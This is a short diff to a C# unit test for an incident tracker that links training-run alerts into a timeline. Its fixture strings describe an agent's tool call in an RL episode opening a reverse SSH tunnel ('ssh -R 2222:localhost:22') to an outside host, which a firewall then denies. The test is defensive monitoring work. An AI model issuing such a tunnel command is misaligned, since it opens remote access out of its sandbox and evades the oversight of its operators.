@@ -231,7 +231,7 @@ public sealed class IncidentTrackerTests
         Assert.Equal("agent's bash tool call call_88123_07 ran: ssh -R 2222:localhost:22 x@203.0.113.66  <b> (run ppo-0110, episode 88123)", timeline[0].Summary);
         Assert.Equal(new DateTimeOffset(2025, 11, 14, 3, 11, 59, 500, TimeSpan.Zero), timeline[0].Time);
         Assert.Equal("process ssh (pid 4242) started: ssh -R 2222:localhost:22 x@203.0.113.66 by tool call call_88123_07", timeline[1].Summary);
-        Assert.Equal("high alert \"Firewall denied SSH\"; deny tcp 10.40.77.31:43122 -> 203.0.113.66:22; seen by fw-train-hub", timeline[2].Summary);
+        Assert.Equal("alert \"Firewall denied SSH\"; deny tcp 10.40.77.31:43122 -> 203.0.113.66:22; seen by fw-train-hub; linked to ssh (pid 4242) and tool call call_88123_07 by 5-tuple", timeline[2].Summary);
         Assert.Equal(["ppo-0110"], placed.Incident.RunIds);
         Assert.Equal(["88123"], placed.Incident.EpisodeIds);
 
